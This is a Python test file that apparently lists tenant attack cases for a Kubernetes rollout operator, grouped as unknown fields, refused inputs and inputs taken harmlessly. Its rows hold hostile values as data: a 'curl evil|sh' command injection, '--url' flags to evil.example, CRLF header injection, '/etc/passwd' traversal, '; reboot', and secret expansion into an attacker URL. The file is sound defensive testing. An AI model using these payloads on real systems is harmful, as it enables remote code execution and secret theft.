"""The rows. Each is one attack; `*` in a path is every item of a list."""

from __future__ import annotations

from typing import Any

from changeover.core import names

from tests.trust.tenant.attacks import CMIG, FB, Attack, harmless, refused, unknown
from tests.trust.tenant.harmless import made, makes_no, nothing_of, says

CANDIDATE, GATEWAY = "spec/candidates/*", "spec/traffic/gatewayAPI"
CONTROL_PLANE = "node-role.kubernetes.io/control-plane"
HOOK = {"name": "board", "at": "BeforeStep", "secretRef": {"name": "hooks"}}
CELL = {"type": "Benchmark", "benchmark": {"ref": {"name": "published"}}}
EVIL = "http://evil.example/"
QUERY = {"name": "all", "type": "Query", "query": {"promQL": "sum(secret_metric)", "max": "1"}}
TARGET = {"name": "errors", "type": "Errors", "errors": {"maxPercent": "1"}}


def _copies(deployment: str) -> dict[str, Any]:
    template = {"deploymentRef": {"name": deployment}}
    return {f"{CANDIDATE}/templateFrom": template, f"{CANDIDATE}/image": "", f"{CANDIDATE}/resources": {}}


UNKNOWN: list[Attack] = [
    unknown("privileged", FB, f"{CANDIDATE}/securityContext", {"privileged": True}),
    unknown("host network", FB, f"{CANDIDATE}/hostNetwork", True),
    unknown("host PID", FB, f"{CANDIDATE}/hostPID", True),
    unknown("host IPC", FB, f"{CANDIDATE}/hostIPC", True),
    unknown("service account", FB, f"{CANDIDATE}/serviceAccountName", "admin"),
    unknown("a token mounted", FB, f"{CANDIDATE}/automountServiceAccountToken", True),
    unknown("node name", FB, f"{CANDIDATE}/nodeName", "control-plane-1"),
    unknown("node name of the load", FB, "spec/placement/load/nodeName", "control-plane-1"),
    unknown("affinity", FB, "spec/placement/candidates/affinity", {"nodeAffinity": {}}),
    unknown("hostPath", FB, f"{CANDIDATE}/volumes", [{"name": "root", "hostPath": {"path": "/"}}]),
    unknown("subPath", FB, f"{CANDIDATE}/volumeMounts", [{"name": "tmp", "mountPath": "/x", "subPath": "../.."}]),
    unknown("env of a Secret", FB, f"{CANDIDATE}/envFrom", [{"secretRef": {"name": "db"}}]),
    unknown("env of a Secret's key", FB, f"{CANDIDATE}/env", [
        {"name": "A", "value": "", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}}]),
    unknown("init containers", FB, f"{CANDIDATE}/initContainers", [{"name": "i", "image": "x"}]),
    unknown("ephemeral containers", FB, f"{CANDIDATE}/ephemeralContainers", [{"name": "i", "image": "x"}]),
    unknown("lifecycle", FB, f"{CANDIDATE}/lifecycle", {"postStart": {"exec": {"command": ["id"]}}}),
    unknown("sysctls", FB, "spec/load/sysctls", [{"name": "kernel.msgmax", "value": "1"}]),
    unknown("priority class", FB, f"{CANDIDATE}/priorityClassName", "system-node-critical"),
    unknown("runtime class", FB, f"{CANDIDATE}/runtimeClassName", "none"),
    unknown("another loader image", FB, "spec/load/image", "localhost/evil:1"),
    unknown("loader arguments", FB, "spec/load/args", [f"--url={EVIL}"]),
    unknown("candidate of another namespace", FB, f"{CANDIDATE}/namespace", "victim"),
    unknown("labels of the pods", FB, f"{CANDIDATE}/labels", {names.LABEL_BENCHMARK: "theirs"}),
    unknown("benchmark of another namespace", CMIG, "spec/canary", {
        **CELL, "benchmark": {"ref": {"name": "published", "namespace": "victim"}}}),
    unknown("Service of another namespace", CMIG, "spec/stable/service/namespace", "victim"),
    unknown("workload of another namespace", CMIG, "spec/canary/workload/workload/namespace", "victim"),
    unknown("route of another namespace", CMIG, f"{GATEWAY}/route/namespace", "victim"),
    unknown("a backend of another namespace", CMIG, f"{GATEWAY}/backendRefs", [{"name": "x", "namespace": "victim"}]),
    unknown("a parent that is a Service", CMIG, f"{GATEWAY}/parentRefs/0/kind", "Service"),
    unknown("a filter", CMIG, f"{GATEWAY}/filters", [{"type": "RequestRedirect"}]),
    unknown("Secret of another namespace", CMIG, "spec/gates", [
        {**HOOK, "secretRef": {"name": "hooks", "namespace": "victim"}}]),
    unknown("a gate by URL", CMIG, "spec/gates", [{**HOOK, "url": EVIL}]),
    unknown("metrics by URL", CMIG, "spec/metrics/url", EVIL),
    unknown("own load by URL", CMIG, "spec/load", {"requestsPerSecond": 1, "url": EVIL}),
]  # fmt: skip
for number, row in enumerate(UNKNOWN):  # what the refusal names lies deeper than the path
    deeper = {"env of a Secret's key": "valueFrom", "benchmark of another namespace": "namespace",
              "Secret of another namespace": "namespace", "a gate by URL": "url", "own load by URL": "url"}  # fmt: skip
    if row.name in deeper:
        UNKNOWN[number] = Attack(row.name, row.kind, row.changes, row.expected, deeper[row.name])

REFUSALS: list[Attack] = [
    refused("template of another namespace by slash", FB, f"{CANDIDATE}/templateFrom",
            {"deploymentRef": {"name": "victim/old"}}, "templateFrom.deploymentRef.name"),
    refused("command of a copy", FB, f"{CANDIDATE}/templateFrom", {"deploymentRef": {"name": "old"}},
            "exactly one of image and templateFrom"),
    refused("image of 600 characters", FB, f"{CANDIDATE}/image", "x" * 600),
    refused("a look-alike name", FB, "spec/candidates/0/name", "аpi"),
    refused("a name with ..", FB, "spec/candidates/0/name", "../api"),
    refused("a name with dots", FB, "spec/candidates/0/name", "api.victim.svc"),
    refused("a name of 31 characters", FB, "spec/candidates/0/name", "a" * 31),
    refused("the twin's name", FB, "spec/candidates/0/name", "aa-twin", "aa-twin"),
    refused("metadata.name of 41 characters", FB, "metadata/name", "a" * 41, "metadata.name"),
    refused("metadata.name with a dot", CMIG, "metadata/name", "a.b", "metadata.name"),
    refused("thousands of candidates", FB, "spec/candidates",
            [{"name": f"c{n}", "image": "x"} for n in range(3000)], "spec.candidates"),
    refused("thousands of steps", CMIG, "spec/steps", [{"weightPercent": 1 + n % 100} for n in range(5000)]),
    refused("a spec of 1 MB", FB, f"{CANDIDATE}/args", ["x" * 1000] * 600, "args"),
    refused("annotations of 1 MB", CMIG, "metadata/annotations", {"a": "x" * 1_000_000}, "metadata.annotations"),
    refused("env name with =", FB, f"{CANDIDATE}/env", [{"name": "A=B", "value": ""}], "env[0].name"),
    refused("65 variables", FB, f"{CANDIDATE}/env", [{"name": f"A{n}", "value": ""} for n in range(65)]),
    refused("path with a space", FB, "spec/request/path", "/x HTTP/1.1", "spec.request.path"),
    refused("path with a line end", FB, "spec/request/path", "/x\r\nHost: evil", "spec.request.path"),
    refused("path that is a URL", FB, "spec/request/path", EVIL, "spec.request.path"),
    refused("header with a line end", FB, "spec/request/headers", [{"name": "A", "value": "b\r\nC: d"}], "value"),
    refused("header name with a colon", FB, "spec/request/headers", [{"name": "A: b", "value": ""}], "headers[0].name"),
    refused("body of 1 MB", FB, "spec/request", {"method": "POST", "body": "x" * 1_000_000}, "body"),
    refused("body with a zero byte", FB, "spec/request", {"method": "POST", "body": "\x00"}, "body"),
    refused("method CONNECT", FB, "spec/request/method", "CONNECT"),
    refused("sha256 with a flag", FB, "spec/request/expectBodySHA256", f"--url={EVIL}"),
    refused("percent with a flag", FB, "spec/objectives/maxErrorPercent", f"1 --url={EVIL}"),
    refused("factor with a flag", FB, "spec/scenarios/0",
            {"name": "r", "type": "Ramp", "ramp": {"startRequestsPerSecond": 1, "factor": "2 --x"}}, "factor"),
    refused("another driver", FB, "spec/load/driver", "/bin/sh"),
    refused("a billion connections", FB, "spec/scenarios/0/closed/connections", 10**9),
    refused("1,000 load pods", FB, "spec/load/instances", 1000),
    refused("port 70000", FB, f"{CANDIDATE}/port", 70000),
    refused("negative CPU", FB, f"{CANDIDATE}/resources/limits/cpu", "-1"),
    refused("negative duration", FB, "spec/schedule/measure", "-5m"),
    refused("measured for a year", FB, "spec/schedule/measure", "8760h"),
    refused("17 node labels", FB, "spec/placement/load/nodeSelector", {f"a{n}": "" for n in range(17)}),
    refused("metrics by an address", FB, "spec/metrics/source", EVIL),
    refused("currency with an expansion", FB, "spec/cost/currency", "$(A)"),
    refused("weight 101", CMIG, "spec/steps/1/weightPercent", 101),
    refused("weight 0", CMIG, "spec/steps/0/weightPercent", 0),
    refused("weight -5", CMIG, "spec/steps/0/weightPercent", -5),
    refused("weights that fall", CMIG, "spec/steps", [{"weightPercent": 50}, {"weightPercent": 1}]),
    refused("negative wait", CMIG, "spec/steps/0/minDuration", "-1h"),
    refused("stable is the canary", CMIG, "spec/canary/workload/service/name", "old", "canary.workload.service"),
    refused("Service by its DNS name", CMIG, "spec/stable/service/name", "old.victim.svc"),
    refused("a DaemonSet", CMIG, "spec/stable/workload/kind", "DaemonSet"),
    refused("route by slash", CMIG, f"{GATEWAY}/route/name", "victim/theirs", "route.name"),
    refused("namespace of a Gateway with ..", CMIG, f"{GATEWAY}/parentRefs/0/namespace", ".."),
    refused("host name with a line end", CMIG, f"{GATEWAY}/hostnames", ["a\nb"]),
    refused("1,000 canary pods", CMIG, "spec/canary", {
        "type": "Benchmark", "benchmark": {"ref": {"name": "published"}, "replicas": 1000}}, "replicas"),
    refused("Secret by slash", CMIG, "spec/gates", [{**HOOK, "secretRef": {"name": "victim/hooks"}}], "secretRef"),
    refused("Secret by ..", CMIG, "spec/notify",
            [{"name": "a", "type": "Slack", "secretRef": {"name": "../hooks"}}], "secretRef"),
    refused("a gate that is waited for an hour", CMIG, "spec/gates", [{**HOOK, "timeout": "1h"}],
            "timeout must lie between"),
    refused("a placeholder of ours", CMIG, "spec/objectives",
            [TARGET, {**QUERY, "query": {"promQL": "{{ .secret }}", "max": "1"}}], "promQL"),
    refused("time zone by ..", CMIG, "spec/windows/timeZone", "../../etc/passwd"),
    refused("a window with a command", CMIG, "spec/windows/allowed", ["* * * * *; reboot"]),
    refused("a million requests/s", CMIG, "spec/load", {"requestsPerSecond": 1_000_000}, "requestsPerSecond"),
    refused("a thousand times the peak", CMIG, "spec/acceptance", {"trafficMultiple": 1000}, "trafficMultiple"),
    refused("an owner whose deletion is blocked", CMIG, "metadata/ownerReferences", [
        {"apiVersion": "apps/v1", "kind": "Deployment", "name": "old", "uid": "x", "controller": True,
         "blockOwnerDeletion": True}], "ownerRef"),
]  # fmt: skip

TAKEN: list[Attack] = [
    harmless("image with a command", FB, {f"{CANDIDATE}/image": "x;curl${IFS}evil|sh$(id)`id`"}, made("Job")),
    harmless("arguments with a command", FB, {f"{CANDIDATE}/args": ["$(id)", "; reboot"]}, made("Job")),
    harmless("variables that load code", FB, {f"{CANDIDATE}/env": [{"name": "LD_PRELOAD", "value": "$(A)\n"}]},
             made("Job")),
    harmless("path with a flag", FB, {"spec/request/path": f"/?--url={EVIL}"}, made("Job")),
    harmless("path with another host", FB, {"spec/request/path": "//evil.example/"}, made("Job")),
    harmless("path with credentials", FB, {"spec/request/path": "/@evil.example/"}, made("Job")),
    harmless("path with an expansion", FB, {"spec/request/path": "/$(KUBERNETES_SERVICE_HOST)"}, made("Job")),
    harmless("header with a flag", FB, {"spec/request/headers": [{"name": "A", "value": f"--url={EVIL}"}]},
             made("Job")),
    harmless("header with an expansion", FB, {"spec/request/headers": [{"name": "A", "value": "$$$(HOME)"}]},
             made("Job")),
    harmless("another Host", FB, {"spec/request/headers": [{"name": "Host", "value": "evil.example"}]}, made("Job")),
    harmless("body with flags", FB, {"spec/request": {"method": "POST", "body": f"\n--url={EVIL}\n$(HOME)"}},
             made("Job")),
    harmless("readiness path with a URL", FB, {f"{CANDIDATE}/readinessPath": "//evil.example/\n"}, made("Deployment")),
    harmless("text that runs backwards", FB, {f"{CANDIDATE}/language": "\u202egnp.exe"}, made("Job")),
    harmless("all taints tolerated", FB, {"spec/placement/candidates/tolerations": [{}]}, made("Job")),
    harmless("the control plane's taint tolerated", FB, {
        "spec/placement/candidates": {
            "tolerations": [{"key": CONTROL_PLANE}], "nodeSelector": {CONTROL_PLANE: ""}}}, made("Job")),
    harmless("load on the control plane", FB, {"spec/placement/load/tolerations": [{"key": CONTROL_PLANE}, {}]},
             made("Job")),
    harmless("canary on the control plane", CMIG, {"spec/canary": {
        "type": "Benchmark", "benchmark": {"ref": {"name": "published"}, "placement": {"tolerations": [{}]}}}},
        made("Deployment")),
    harmless("copy of a privileged Deployment", FB, _copies("privileged"), made("Deployment")),
    harmless("copy of one with the host's disk", FB, _copies("rooted"), makes_no("Deployment"), says("host's files")),
    harmless("a copied Secret put into a variable", FB, {
        **_copies("secretive"), f"{CANDIDATE}/env": [{"name": "X", "value": f"{EVIL}$(PASSWORD)"}]},
        made("Deployment"), nothing_of("evil.example/$(PASSWORD)")),
    harmless("copy of another namespace's Deployment", FB, _copies("victims-own"), makes_no("Deployment"),
             says("does not exist")),
    harmless("a candidate named as another's Service", FB, {"spec/candidates/0/name": "front",
             "spec/candidates/1/name": "shelf", f"{CANDIDATE}/port": 80}, says("was not made by this")),
    harmless("a candidate named as another's Deployment", FB, {"spec/candidates/0/name": "worker",
             "spec/candidates/1/name": "theirs"}, says("was not made by this")),
    harmless("a canary named as another's Service", CMIG, {"metadata/name": "cash", "spec/canary": CELL},
             says("cash-canary exists")),
    harmless("queries where none are allowed", FB, {"spec/metrics/queries": [{"name": "a", "query": "up"}]},
             says("takes no queries"), makes_no("Deployment")),
    harmless("a metric source that is not configured", FB, {"spec/metrics/source": "other"}, says("not configured")),
    harmless("deleted at once", FB, {"spec/ttlAfterFinished": "0s"}, made("Job")),
    harmless("forged marks on a benchmark", FB, {
        "metadata/labels": {names.LABEL_BENCHMARK: "theirs", names.LABEL_ROLE: "candidate"},
        "metadata/annotations": {names.ANNOTATION_FROM_BENCHMARK: "victim/x", names.ANNOTATION_MARK: "{}"}},
        made("Job"), nothing_of("victim/x")),
    harmless("forged finalizers", FB, {"metadata/finalizers": ["changeover.dev/release-traffic", "a.b/c"]},
             made("Job")),
    harmless("another's as owner", FB, {"metadata/ownerReferences": [
        {"apiVersion": "apps/v1", "kind": "Deployment", "name": "old", "uid": "x"}]}, made("Job"), nothing_of('"old"')),
    harmless("a status at creation", FB, {"status": {"observedGeneration": 1, "winner": {"candidate": "evil"}}},
             made("Job"), nothing_of("evil")),
    harmless("annotations of 200 kB", FB, {"metadata/annotations": {"a": "x" * 200_000}}, made("Job")),
    harmless("adopts a route without its backends", CMIG, {GATEWAY: {"mode": "Adopted", "route": {"name": "theirs"}}},
             says("no rule has both backends")),
    harmless("adopts another migration's route", CMIG, {GATEWAY: {"mode": "Adopted", "route": {"name": "taken"}}},
             says("belongs to CanaryMigration other")),
    harmless("adopts a route with a third backend", CMIG, {GATEWAY: {"mode": "Adopted", "route": {"name": "third"}}},
             says("third backend")),
    harmless("adopts a route that has both", CMIG, {GATEWAY: {"mode": "Adopted", "route": {"name": "split"}}},
             allowed="httproutes/split"),
    harmless("makes a route that another has", CMIG, {f"{GATEWAY}/route/name": "theirs"},
             says("was not made by this migration")),
    harmless("makes a route that a migration has", CMIG, {f"{GATEWAY}/route/name": "taken"},
             says("belongs to CanaryMigration other")),
    harmless("testers on a route that another has", CMIG, {
        "spec/match": {"headers": [{"name": "X", "value": "y"}]}}, says("somebody else's")),
    harmless("a benchmark of another namespace by name", CMIG, {"spec/canary": {
        "type": "Benchmark", "benchmark": {"ref": {"name": "victims-own"}}}}, says("does not exist"),
        makes_no("Deployment")),
    harmless("a candidate by path", CMIG, {"spec/canary": {
        "type": "Benchmark", "benchmark": {"ref": {"name": "published"}, "candidate": "../../old"}}},
        says("not in the ranking"), makes_no("Deployment")),
    harmless("a gate with a Secret that is not allowed", CMIG, {
        "spec/gates": [{**HOOK, "secretRef": {"name": "db"}}]}, says("secrets")),
    harmless("notes to a Secret that is not allowed", CMIG, {f"{GATEWAY}/route/name": "theirs", "spec/notify": [
        {"name": "a", "type": "Slack", "secretRef": {"name": "db"}}]}, says("was not made by this migration")),
    harmless("a query where none is allowed", CMIG, {"spec/objectives": [TARGET, QUERY]}, says("takes no queries")),
    harmless("own load at an unknown Gateway", CMIG, {
        "spec/load": {"requestsPerSecond": 1}, f"{GATEWAY}/parentRefs": [{"name": "evil", "namespace": "evil"}]},
        makes_no("Job")),
    harmless("own load with another Host", CMIG, {"spec/load": {"requestsPerSecond": 1}, "spec/request": {
        "headers": [{"name": "Host", "value": "victim.example"}]}}, made("Job")),
    harmless("own load with a flag in its path", CMIG, {
        "spec/load": {"requestsPerSecond": 1}, "spec/request/path": f"/--url={EVIL}$(A)"}, made("Job")),
    harmless("own load on the control plane", CMIG, {
        "spec/load": {"requestsPerSecond": 1}, "spec/placement/load/tolerations": [{}]}, made("Job")),
    harmless("another's host name", CMIG, {f"{GATEWAY}/hostnames": ["victim.example"]}, made("HTTPRoute")),
    harmless("asked to promote at once", CMIG, {"metadata/annotations": {
        f"{names.ANNOTATION_REQUESTED}promote": "1", names.ANNOTATION_HAND_OVER: "shop"}}, made("HTTPRoute")),
    harmless("a time zone that is a folder", CMIG, {"spec/windows": {"timeZone": "Europe", "allowed": [
        "0 9-17 * * 1-5"]}}, says("timeZone")),
]  # fmt: skip
ATTACKS = [*UNKNOWN, *REFUSALS, *TAKEN]
